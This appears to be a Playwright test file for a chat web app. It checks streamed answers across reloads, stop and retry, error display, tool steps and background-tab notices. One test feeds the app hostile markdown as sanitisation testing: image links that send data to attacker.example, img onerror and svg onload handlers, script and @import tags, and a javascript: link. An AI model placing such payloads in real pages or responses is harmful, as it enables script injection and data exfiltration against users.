"""Streamed answers in a browser: whatever happens on the way, the page ends right."""

from __future__ import annotations

import random
import time
from typing import TYPE_CHECKING

import pytest

from tests.browser.chatting import ChatPage, sign_in
from tests.flows.api_client import Caller
from tests.support import stub
from tests.support.people import MEMBER

if TYPE_CHECKING:
    from collections.abc import Iterator

    from playwright.sync_api import BrowserContext, Page

    from tests.support.stack import Stack
    from tests.support.stub import StubProvider

# Presets are kept for two seconds in each process.
PRESET_SECONDS = 2.2


@pytest.fixture(scope="module")
def scripted_stack(stack: Stack, shared_stub_provider: StubProvider) -> Iterator[Stack]:
    """The stack with the stub provider as its default model."""
    stack.shell(
        "from tooling.models import Preset\n"
        "Preset.objects.update_or_create(name='stub', defaults=dict("
        "backend='openai', model='stub', is_default=True, retries=0, "
        f"base_url={shared_stub_provider.url!r}))"
    )
    time.sleep(PRESET_SECONDS)
    yield stack
    stack.shell("from tooling.models import Preset; Preset.objects.all().delete()")
    time.sleep(PRESET_SECONDS)


@pytest.fixture
def chat(page: Page, context: BrowserContext, scripted_stack: Stack) -> ChatPage:
    sign_in(context, scripted_stack)
    return ChatPage(page, scripted_stack)


def stored_answer(chat: ChatPage, conversation: str) -> str:
    rows = Caller.of(chat.stack, MEMBER).get(f"conversations/{conversation}/messages")
    return str(rows["items"][-1]["text"])


@pytest.mark.case("A30")
@pytest.mark.lesson("chat-R1")
def test_a_reload_and_a_second_window_lose_and_repeat_nothing(
    chat: ChatPage, context: BrowserContext, stub_provider: StubProvider
) -> None:
    words = "".join(f"tok-{number:03d} " for number in range(1, 201))
    stub_provider.script(stub.text(words, interval_ms=50))
    conversation = chat.begin()
    chat.say("Count.")
    chat.page.wait_for_function(
        "() => document.querySelector('#live')?.textContent.includes('tok-050')"
    )
    chat.reload()
    other = ChatPage(context.new_page(), chat.stack)
    other.open(conversation)
    for window in (chat, other):
        window.wait_idle(1)
        assert window.answers() == [words.strip()]
    assert stored_answer(chat, conversation) == words
    assert len(stub_provider.log()) == 1


@pytest.mark.soak
@pytest.mark.lesson("chat-R1")
def test_at_any_of_fifty_reloads_the_page_has_what_came_so_far(
    chat: ChatPage, stub_provider: StubProvider
) -> None:
    words = "".join(f"wört-{number:04d} 𝄞 " for number in range(1, 4001))
    stub_provider.script(stub.text(words, interval_ms=50))
    conversation = chat.begin()
    chat.say("Count.")
    draw = random.Random(11)  # noqa: S311 -- a test's dice
    for _reload in range(50):
        chat.page.wait_for_timeout(draw.randint(0, 250))
        before = chat.shown_text()
        assert words.startswith(before.rstrip()), before[-60:]
        chat.page.reload(wait_until="commit")
        chat.page.wait_for_selector("#composer-text")
        after = chat.shown_text()
        assert words.startswith(after.rstrip()), after[-60:]
        assert len(after) >= len(before.rstrip()), "text that was there has gone"
    chat.page.click("[data-stop]")
    chat.page.locator(".turn--stopped").wait_for(timeout=5_000)
    chat.page.wait_for_selector("#log .msg--assistant")
    stored = stored_answer(chat, conversation)
    assert chat.answers() == [stored.strip()]
    assert words.startswith(stored)


@pytest.mark.lesson("chat-R7", "chat-R8")
def test_stop_keeps_what_came_and_offers_to_try_again(
    chat: ChatPage, stub_provider: StubProvider
) -> None:
    stub_provider.script(stub.endless(), stub.text("Here it is, whole."))
    conversation = chat.begin()
    chat.say("Go on for ever.")
    chat.page.wait_for_function(
        "() => document.querySelector('#live')?.textContent.length > 60"
    )
    chat.page.click("[data-stop]")
    again = chat.page.locator(".turn--stopped button")
    again.wait_for(timeout=5_000)
    chat.page.wait_for_selector("#log .msg--assistant")
    assert "Cut off" in chat.page.inner_text("#log")
    assert chat.page.locator("#live > *").count() == 0
    [partial] = chat.answers()
    assert stored_answer(chat, conversation).strip() == partial.strip()
    again.click()
    chat.wait_idle(2)
    assert chat.answers()[-1] == "Here it is, whole."
    assert chat.posts() == 1


def test_a_failure_is_said_and_can_be_tried_again(
    chat: ChatPage, stub_provider: StubProvider
) -> None:
    stub_provider.script(stub.error(503, message="down"), stub.text("Now it works."))
    chat.begin()
    chat.say("Hello?")
    line = chat.page.locator(".turn--failed")
    line.wait_for(timeout=30_000)
    assert "Try again" in line.inner_text()
    chat.reload()
    chat.page.locator(".turn--failed button").click()
    chat.wait_idle(1)
    assert chat.answers() == ["Now it works."]


@pytest.mark.lesson("chat-R28")
def test_hostile_markdown_asks_nobody_for_anything(
    chat: ChatPage, stub_provider: StubProvider
) -> None:
    hostile = (
        "![x](https://attacker.example/p?d=S) ![r][r] <https://attacker.example>\n\n"
        '<img src=https://attacker.example/i onerror="window.hacked=1">\n\n'
        "<script>window.hacked=1</script><style>@import "
        "'https://attacker.example/c.css'</style>\n\n"
        "[click](javascript:window.hacked=1)\n\n"
        "| a |\n|-|\n| <svg onload=window.hacked=1> |\n\n"
        "[r]: https://attacker.example/r\n"
    )
    stub_provider.script(stub.text(hostile, tokens=[hostile[:40], hostile[40:]]))
    chat.begin()
    chat.say(hostile)
    chat.wait_idle(1)
    chat.page.wait_for_timeout(300)
    assert chat.foreign_requests == []
    assert chat.page.evaluate("window.hacked") is None
    assert chat.complaints == []
    assert chat.page.locator("#log img").count() == 0


@pytest.mark.lesson("chat-R5")
def test_tool_steps_show_while_the_answer_goes_on(
    chat: ChatPage, context: BrowserContext, stub_provider: StubProvider
) -> None:
    stub_provider.script(
        stub.tool_call("mission_list", "{}"),
        stub.tool_call("mission_approve", '{"approved": true}'),
        stub.text("Done looking. " * 60, interval_ms=40),
    )
    conversation = chat.begin()
    chat.say("Look around.")
    steps = chat.page.locator("#log .msg--tool .step__words")
    steps.nth(1).wait_for(timeout=15_000)
    assert chat.page.locator("#turns .turn--running").count() == 1
    other = ChatPage(context.new_page(), chat.stack)
    other.open(conversation)
    assert other.page.locator("#log .msg--tool").count() == 2
    refusal = chat.page.locator("#log .step__sentence")
    assert "never approve" in refusal.inner_text()
    for window in (chat, other):
        window.wait_idle(1)
        assert window.page.locator("[data-pending]").count() == 0
        assert window.page.locator("#log .msg--tool").count() == 2


def test_a_tab_in_the_background_says_when_the_answer_is_there(
    chat: ChatPage, stub_provider: StubProvider
) -> None:
    stub_provider.script(stub.text("Ready. " * 20, interval_ms=40))
    chat.begin()
    chat.say("Tell me.")
    chat.page.wait_for_selector("#live .msg__text")
    # The browser of a test has no other tab to bring to the front.
    chat.page.evaluate(
        """() => {
            Object.defineProperty(document, 'hidden', {get: () => true});
            document.dispatchEvent(new Event('visibilitychange'));
        }"""
    )
    chat.wait_idle(1)
    chat.page.wait_for_function("() => document.title.startsWith('✓ ')")
    assert chat.page.inner_text("#announce") == "Answer complete"
